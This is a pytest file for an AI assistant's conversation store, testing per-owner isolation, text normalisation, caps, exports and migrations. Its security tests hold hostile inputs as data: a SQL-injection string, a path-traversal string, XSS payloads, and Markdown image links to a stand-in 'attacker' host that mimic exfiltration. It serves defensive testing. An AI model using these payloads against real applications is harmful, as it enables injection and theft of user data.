"""The conversation store's API, run against a SQLite file and a real PostgreSQL (parametrized):
chats, messages with whole answers, history, feedback, exports, ownership (S16), stored-text
normalisation and caps (S13), migrations and the database URL."""

from __future__ import annotations

import json
import sqlite3
from dataclasses import replace

import pytest
from sqlalchemy import func, inspect, select, text

from assistant.conversations import (
    REASONS,
    ConversationNotFoundError,
    ConversationStore,
    ConversationStoreCorruptError,
    ConversationStoreError,
    Limits,
)
from assistant.conversations.database import database_url
from assistant.conversations.migrations import LATEST, VERSION_TABLE
from assistant.conversations.models import Base, FeedbackRow, MessageRow
from assistant.errors import ConfigError, InputError
from assistant.types import Answer, Citation, Passage, Timings
from tests.conftest import make_settings


def an_answer(text: str = "A VAE encodes input data into a compressed, latent representation [1].", **changes) -> Answer:
    title, passage = "Variational Autoencoders (VAEs)", "VAEs encode input data into a compressed, latent representation."
    citation = Citation(number=1, entry_id="vae", title=title, quote="compressed, latent representation",
                        passage_text=passage, source="knowledge", section="Glossary")
    passages = [Passage(entry_id="vae", title=title, kind="glossary", score=0.81, source="knowledge", text=passage,
                        section="Glossary", node_id="n1"),
                Passage(entry_id="gan", title="GAN", kind="glossary", score=0.4, source="knowledge", text="Networks compete.")]
    answer = Answer(text=text, citations=[citation], passages=passages, query="variational autoencoder",
                    mode="generated", notice="", timings=Timings(first_text_s=0.4, total_s=1.2))
    return replace(answer, **changes)


@pytest.fixture(params=["sqlite", "postgres"])
def url(request, tmp_path) -> str:
    """A fresh, empty database: a SQLite file, or a new database in the session's PostgreSQL."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'conversations.db'}"
    return request.getfixturevalue("postgres_cluster").create_database()


@pytest.fixture
def store(url):
    with ConversationStore.open(url) as opened:
        yield opened


# --- chats ----------------------------------------------------------------------------------------
def test_create_list_newest_first_and_title_from_first_question(store):
    first = store.create("alice")
    assert (first.title, first.display_title) == ("", "New chat")
    second = store.create("alice", "  Named   chat \n")
    assert second.title == "Named chat"
    store.append_exchange("alice", first.id, "  What is a   variational autoencoder, and how is it trained?  ", an_answer())
    listed = store.list("alice")
    assert [c.id for c in listed] == [first.id, second.id]  # the chat just answered in is the most recent
    assert listed[0].title == "What is a variational autoencoder, and how is it trained?"
    assert listed[0].messages == []
    assert store.list("alice", limit=1) == listed[:1]
    store.append_exchange("alice", second.id, "Another question?", an_answer())
    assert store.get("alice", second.id).title == "Named chat"  # an explicit title is kept
    long = store.create("alice")
    store.append_exchange("alice", long.id, "word " * 100, an_answer())
    title = store.get("alice", long.id).title
    assert len(title) <= Limits().title_chars and title.endswith("…") and not title.endswith(" …")


def test_get_restores_whole_answers_and_feedback(store):
    chat = store.create("alice")
    answer = an_answer(notice="The LLM was down; sentences are quoted.", mode="extractive", unsupported=["An odd claim."],
                       incomplete=True)
    question, stored = store.append_exchange("alice", chat.id, "What is a VAE?", answer)
    assert (question.role, question.position, stored.role, stored.position) == ("user", 0, "assistant", 1)
    assert stored.answer == answer  # citations with quotes, passages, mode, query, notice, timings
    store.add_feedback("alice", stored.id, "down", "wrong or missing source", "The quote is from another entry.")
    got = store.get("alice", chat.id)
    assert [m.role for m in got.messages] == ["user", "assistant"]
    assert got.messages[0].text == "What is a VAE?" and got.messages[0].answer is None
    restored = got.messages[1]
    assert restored.answer == answer and restored.id == stored.id
    assert restored.feedback is not None
    assert (restored.feedback.vote, restored.feedback.reason, restored.feedback.text) == (
        "down", "wrong_source", "The quote is from another entry.")
    assert got.created_at.tzinfo is not None and got.updated_at >= got.created_at


def test_history_for_follow_ups(store):
    chat = store.create("alice")
    for i in range(4):
        store.append_exchange("alice", chat.id, f"question {i}", an_answer(f"answer {i}"))
    history = store.history("alice", chat.id)
    assert history == [(role, f"{word} {i}") for i in range(4) for role, word in (("user", "question"), ("assistant", "answer"))]
    assert store.history("alice", chat.id, turns=2) == history[-4:]
    assert store.history("alice", store.create("alice").id) == []


def test_rename_and_delete_with_messages_and_feedback(store):
    chat = store.create("alice", "old")
    _, stored = store.append_exchange("alice", chat.id, "What is a VAE?", an_answer())
    store.add_feedback("alice", stored.id, "up")
    assert store.rename("alice", chat.id, "  A new\nname ").title == "A new name"
    assert store.list("alice")[0].title == "A new name"
    with pytest.raises(InputError, match="cannot be empty"):
        store.rename("alice", chat.id, " \u200b ")
    keep = store.create("alice", "keep")
    store.delete("alice", chat.id)
    assert [c.id for c in store.list("alice")] == [keep.id]
    with pytest.raises(ConversationNotFoundError):
        store.get("alice", chat.id)
    with store.session() as s:  # the foreign keys cascade: nothing of the chat is left behind
        assert s.scalar(select(func.count()).select_from(MessageRow)) == 0
        assert s.scalar(select(func.count()).select_from(FeedbackRow)) == 0


def test_feedback_votes_reasons_and_replacement(store):
    chat = store.create("alice")
    question, answer = store.append_exchange("alice", chat.id, "What is a VAE?", an_answer())
    for label, code in zip(REASONS.values(), REASONS, strict=True):
        assert store.add_feedback("alice", answer.id, "down", label).reason == code
        assert store.add_feedback("alice", answer.id, "down", code).reason == code
    store.add_feedback("alice", answer.id, "up", None, "")
    with store.session() as s:  # one vote per owner and answer: the latest
        assert s.execute(select(FeedbackRow.vote, FeedbackRow.reason)).all() == [("up", None)]
    with pytest.raises(InputError, match="'up' or 'down'"):
        store.add_feedback("alice", answer.id, "sideways")
    with pytest.raises(InputError, match="Unknown feedback reason"):
        store.add_feedback("alice", answer.id, "down", "too polite")
    with pytest.raises(InputError, match="answers, not on questions"):
        store.add_feedback("alice", question.id, "down")


def test_threads_of_one_process_share_a_store(store):
    """The UI answers several chats at once: one store, many threads, nothing lost."""
    from concurrent.futures import ThreadPoolExecutor

    chat = store.create("alice")

    def ask(i: int) -> None:
        store.append_exchange("alice", chat.id, f"question {i}", an_answer(f"answer {i}"))

    with ThreadPoolExecutor(4) as pool:
        list(pool.map(ask, range(20)))
    history = store.history("alice", chat.id)
    assert sorted(t for r, t in history if r == "user") == sorted(f"question {i}" for i in range(20))
    assert all(a == ("assistant", q[1].replace("question", "answer")) for q, a in zip(history[::2], history[1::2], strict=True))


# --- S16: one owner never reaches another's chats --------------------------------------------------
def test_S16_another_owner_is_told_not_found_exactly_like_a_missing_chat(store):
    chat = store.create("alice", "private")
    _, answer = store.append_exchange("alice", chat.id, "my secret question", an_answer())
    missing = "00000000-0000-4000-8000-000000000000"
    assert store.list("mallory") == []
    for target in (chat.id, missing):
        calls = [lambda t=target: store.get("mallory", t), lambda t=target: store.history("mallory", t),
                 lambda t=target: store.rename("mallory", t, "mine"), lambda t=target: store.delete("mallory", t),
                 lambda t=target: store.append_exchange("mallory", t, "q", an_answer()),
                 lambda t=target: store.export_markdown("mallory", t), lambda t=target: store.export_json("mallory", t)]
        messages = set()
        for call in calls:
            with pytest.raises(ConversationNotFoundError) as raised:
                call()
            messages.add(str(raised.value))
        assert messages == {"This chat was not found (it may have been deleted); start a new chat."}
    for message_id in (answer.id, missing):
        with pytest.raises(ConversationNotFoundError, match="This answer was not found"):
            store.add_feedback("mallory", message_id, "down", "other", "spam")
    got = store.get("alice", chat.id)  # untouched by every attempt
    assert (got.title, len(got.messages), got.messages[1].feedback) == ("private", 2, None)


def test_S16_malformed_ids_and_owners(store):
    for bad in ("", "1 OR 1=1", "\ud800", "x" * 10_000, None, 42, "../../etc/passwd"):
        with pytest.raises(ConversationNotFoundError):
            store.get("alice", bad)
        with pytest.raises(ConversationNotFoundError):
            store.add_feedback("alice", bad, "up")
    for owner in ("", "   ", "\x00\u200b", "o" * 201, None):
        with pytest.raises(InputError, match="owner"):
            store.list(owner)


# --- S13: stored text is normalised and capped, counted on what is stored ---------------------------
def test_S13_stored_text_is_normalised(store, url):
    chat = store.create("alice", "title\u2028with\u2029separators\u0085")
    dirty = "What\u2028is\u2029a\u0085VAE\x00\x1b[31m\u200b?\ud800"
    answer = an_answer("An answer\u2028split [1].", notice="note\u2029", query="q\u0085",
                       citations=[replace(an_answer().citations[0], quote="latent\u2028representation")])
    _, stored = store.append_exchange("alice", chat.id, dirty, answer)
    store.add_feedback("alice", stored.id, "down", "other", "free\u2028text\u0085here\x07")
    got = store.get("alice", chat.id)
    assert got.title == "title with separators"
    assert got.messages[0].text == "What\nis\na\nVAE?"
    assert got.messages[1].text == "An answer\nsplit [1]."
    assert got.messages[1].answer.citations[0].quote == "latent\nrepresentation"
    assert got.messages[1].feedback.text == "free\ntext\nhere"
    with store.session() as s:  # nothing raw in any stored column, JSON included
        rows = s.execute(text("SELECT text, CAST(citations AS TEXT), notice, query FROM messages")).all()
        rows += s.execute(text("SELECT text, title, '', '' FROM feedback, conversations")).all()
    for row in rows:
        for value in row:
            assert not set(value or "") & {"\u2028", "\u2029", "\u0085", "\x00", "\x1b", "\u200b"}
    for line in store.export_json("alice", chat.id).splitlines():
        assert "\u2028" not in line and "\u2029" not in line and "\u0085" not in line


def test_S13_every_write_is_capped(url):
    limits = Limits(text_chars=300, field_chars=200, feedback_chars=50, title_chars=40, items=3, turns=2, conversations=2)
    with ConversationStore.open(url, limits=limits) as store:
        chat = store.create("alice", "t" * 500)
        assert len(chat.title) <= 40
        # Invisible characters are removed before the cap is counted: 300 visible characters fit.
        exact = "q" * 300
        _, answer = store.append_exchange("alice", chat.id, "\u200b" * 50 + exact, an_answer(
            "a" * 5000, citations=[an_answer().citations[0]] * 10, passages=[an_answer().passages[0]] * 10,
            unsupported=["u" * 10_000]))
        got = store.get("alice", chat.id)
        assert got.messages[0].text == exact
        stored = got.messages[1]
        assert len(stored.text) == 300 and stored.text.endswith("…")
        assert len(stored.answer.citations) == 3 and len(stored.answer.passages) == 3
        assert len(stored.answer.unsupported[0]) == 200
        feedback = store.add_feedback("alice", answer.id, "down", "other", "x" * 10_000)
        assert len(feedback.text) == 50
        assert len(store.get("alice", chat.id).messages[1].feedback.text) == 50
        store.append_exchange("alice", chat.id, "second", an_answer())
        with pytest.raises(InputError, match="reached 2 questions"):
            store.append_exchange("alice", chat.id, "third", an_answer())
        assert len(store.history("alice", chat.id)) == 4
        store.create("alice")
        with pytest.raises(InputError, match="You have 2 chats"):
            store.create("alice")
        store.create("bob")  # the cap is per owner
        with pytest.raises(InputError, match="empty question"):
            store.append_exchange("bob", store.list("bob")[0].id, " \u200b\x00 ", an_answer())


# --- exports ----------------------------------------------------------------------------------------
def test_export_markdown_answers_with_citations_and_quotes(store):
    chat = store.create("alice")
    _, answer = store.append_exchange("alice", chat.id, "What is a VAE?", an_answer())
    store.append_exchange("alice", chat.id, "How is it trained?", an_answer(
        "I could not find this in the sources.", mode="refused", refused=True, citations=[]))
    store.add_feedback("alice", answer.id, "down", "wrong fact")
    markdown = store.export_markdown("alice", chat.id)
    assert markdown.startswith("# What is a VAE?\n")
    assert "## Question 1\n\n> What is a VAE?" in markdown and "## Question 2\n\n> How is it trained?" in markdown
    assert "A VAE encodes input data into a compressed, latent representation [1]." in markdown
    assert "- **[1] Variational Autoencoders (VAEs)** — Glossary\n  > “compressed, latent representation”" in markdown
    assert "**Closest passages** (none answers the question)" in markdown
    assert "*Your feedback:* 👎 — wrong fact" in markdown


def test_S1_export_markdown_is_inert(store):
    chat = store.create("alice")
    question = "# Heading <script>alert(1)</script> [link](javascript:alert(1)) ![x](http://attacker/?q=1)"
    evil = an_answer("Look ![x](http://attacker/?q=secret) <img src=x onerror=alert(1)> [1]",
                     citations=[replace(an_answer().citations[0], quote="<svg onload=alert(1)>", title="<b>T</b>")])
    store.append_exchange("alice", chat.id, question, evil)
    markdown = store.export_markdown("alice", chat.id)
    assert "<script" not in markdown and "<img" not in markdown and "<svg" not in markdown and "<b>" not in markdown
    assert "![" not in markdown  # no image can load from a document's or model's text
    assert "> \\# Heading &lt;script>" in markdown  # the question shows as typed
    assert "\\[link\\](javascript:alert(1))" in markdown


def test_export_json_has_everything_but_the_owner(store):
    chat = store.create("owner-token-123", "JSON")
    _, answer = store.append_exchange("owner-token-123", chat.id, "What is a VAE?", an_answer())
    store.add_feedback("owner-token-123", answer.id, "up")
    document = json.loads(store.export_json("owner-token-123", chat.id))
    assert "owner-token-123" not in json.dumps(document)
    assert (document["format"], document["version"], document["id"], document["title"]) == (
        "genai-assistant/conversation", 1, chat.id, "JSON")
    first, second = document["messages"]
    assert (first["role"], first["text"], first["answer"]) == ("user", "What is a VAE?", None)
    assert second["answer"]["citations"][0]["quote"] == "compressed, latent representation"
    assert second["answer"]["timings"] == {"first_text_s": 0.4, "total_s": 1.2}
    assert second["feedback"]["vote"] == "up"


# --- migrations -------------------------------------------------------------------------------------
def test_migrated_schema_matches_the_models(store, url):
    with store.engine.connect() as conn:
        inspector = inspect(conn)
        assert set(inspector.get_table_names()) == set(Base.metadata.tables) | {VERSION_TABLE}
        for name, table in Base.metadata.tables.items():
            columns = {c["name"]: c["nullable"] for c in inspector.get_columns(name)}
            assert columns == {c.name: c.nullable for c in table.columns}, name
            uniques = {u["name"] for u in inspector.get_unique_constraints(name)}
            indexes = {i["name"] for i in inspector.get_indexes(name)}
            assert {i.name for i in table.indexes} <= indexes, name
            expected = {c.name for c in table.constraints if c.__class__.__name__ == "UniqueConstraint"}
            assert expected <= uniques | indexes, name
        assert conn.execute(text(f"SELECT version FROM {VERSION_TABLE}")).scalars().all() == list(range(1, LATEST + 1))
    with ConversationStore.open(url) as again:  # reopening migrates nothing
        with again.session() as s:
            assert s.scalar(text(f"SELECT count(*) FROM {VERSION_TABLE}")) == LATEST


def test_F21_database_from_a_newer_version_is_refused(store, url):
    with store.session(write=True) as s:
        s.execute(text(f"INSERT INTO {VERSION_TABLE} (version, applied_at) VALUES (99, CURRENT_TIMESTAMP)"))
    with pytest.raises(ConversationStoreError, match="schema version 99, written by a newer version of the assistant"):
        ConversationStore.open(url)


def test_a_database_holding_other_tables_is_refused_unchanged(tmp_path):
    path = tmp_path / "other.db"
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE thesis (chapter TEXT)")
        db.execute("INSERT INTO thesis VALUES ('precious')")
    db.close()
    before = path.read_bytes()
    with pytest.raises(ConversationStoreCorruptError, match=r"already holds tables the assistant did not create \(thesis\)"):
        ConversationStore.open(f"sqlite:///{path}")
    assert path.read_bytes() == before


# --- configuration --------------------------------------------------------------------------------
def test_default_is_a_wal_sqlite_file_in_data_dir(tmp_path):
    settings = make_settings(tmp_path / "data")
    with ConversationStore.from_settings(settings) as store:
        chat = store.create("alice")
        store.append_exchange("alice", chat.id, "What is a VAE?", an_answer())
        assert store.where == "the conversation database (DATA_DIR/conversations.db)"
        with store.engine.connect() as conn:
            assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
            assert conn.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
            assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() == 5000
    assert (tmp_path / "data" / "conversations.db").is_file()
    with ConversationStore.from_settings(settings) as reopened:  # a restart keeps the chat
        assert reopened.history("alice", chat.id)[0] == ("user", "What is a VAE?")


def test_database_url_setting(tmp_path):
    def url_of(value: str) -> str:
        return database_url(make_settings(tmp_path, database_url=value)).render_as_string(hide_password=False)

    assert url_of("") == f"sqlite+pysqlite:///{tmp_path / 'conversations.db'}"
    assert url_of("postgresql://u:p@db:5432/chats") == "postgresql+psycopg://u:p@db:5432/chats"
    assert url_of("postgres://u@db/chats") == "postgresql+psycopg://u@db/chats"
    assert url_of("sqlite:////srv/chats.db") == "sqlite:////srv/chats.db"
    for bad, message in (("mysql://u@db/x", "supports PostgreSQL"), ("sqlite://", "in-memory"),
                         ("not a url", "not a database URL")):
        with pytest.raises(ConfigError, match=message):
            url_of(bad)


def test_a_folder_where_the_file_should_be(tmp_path):
    (tmp_path / "conversations.db").mkdir()
    with pytest.raises(ConversationStoreError, match="is a folder, not a file"):
        ConversationStore.from_settings(make_settings(tmp_path))


def test_postgres_url_with_password_never_shown(postgres_cluster):
    url = postgres_cluster.url("nosuchdb").replace("postgres@", "postgres:hunter2secret@")
    with pytest.raises(ConversationStoreError) as raised:
        ConversationStore.open(url, timeout=2)
    assert "hunter2secret" not in str(raised.value)
    assert "PostgreSQL at 127.0.0.1:" in str(raised.value)
